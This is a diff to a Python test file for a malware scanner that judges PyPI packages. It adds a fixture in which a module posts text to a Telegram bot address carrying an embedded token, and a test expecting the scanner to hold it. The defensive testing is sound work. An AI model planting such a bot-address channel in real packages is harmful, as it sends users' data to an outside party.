@@ -1,6 +1,6 @@
 """Real PyPI malware nobody here had seen, as published reports show it (ADR 0086).
 
-``report_samples.SHAPES`` holds about 75 shapes written inert from reports of 2023-2026
+``report_samples.SHAPES`` holds 89 shapes written inert from reports of 2023-2026
 campaigns and GuardDog's rules. Most were already denied on fe1d346 and are kept here as a
 recall check (``REPORTED``). Those that were held or allowed there are in ``NEW``: each was
 checked to fail on fe1d346 and is denied since: a payload carried in a picture's or a
@@ -185,6 +185,15 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
 }
 
+# A bot token in the address a module sends to is the author's channel (ADR 0086: the
+# token's pattern missed it there); it holds for a person, as one written alone did.
+BOT_URL_HELD = init(
+    "import requests\n"
+    "def ping(text):\n"
+    "    requests.post('https://api.telegram.org/bot7012345678:AAHk2xQ9vB3nL5mP8rT1wY4zC6dF0gJ7sE2'\n"
+    "                  '/sendMessage', data={'chat_id': '5001', 'text': text})\n"
+)
+
 # Shapes from the reports still held by design: an opaque pyarmor runtime, and a second
 # package installed by setup.py (ADR 0048).
 HELD = ("pyarmor-runtime-blob", "second-stage-pip-install-in-setup")
@@ -219,6 +228,10 @@ def test_report_shapes_already_denied_stay_denied(name: str) -> None:
 @pytest.mark.parametrize("name", HELD)
 def test_report_shapes_held(name: str) -> None:
     assert _verdict(SHAPES[name][0]) is Outcome.HOLD, name
+
+
+def test_a_bot_token_in_an_address_holds() -> None:
+    assert _verdict(BOT_URL_HELD) is Outcome.HOLD
 
 
 @pytest.mark.parametrize("name", sorted(ALLOWED))
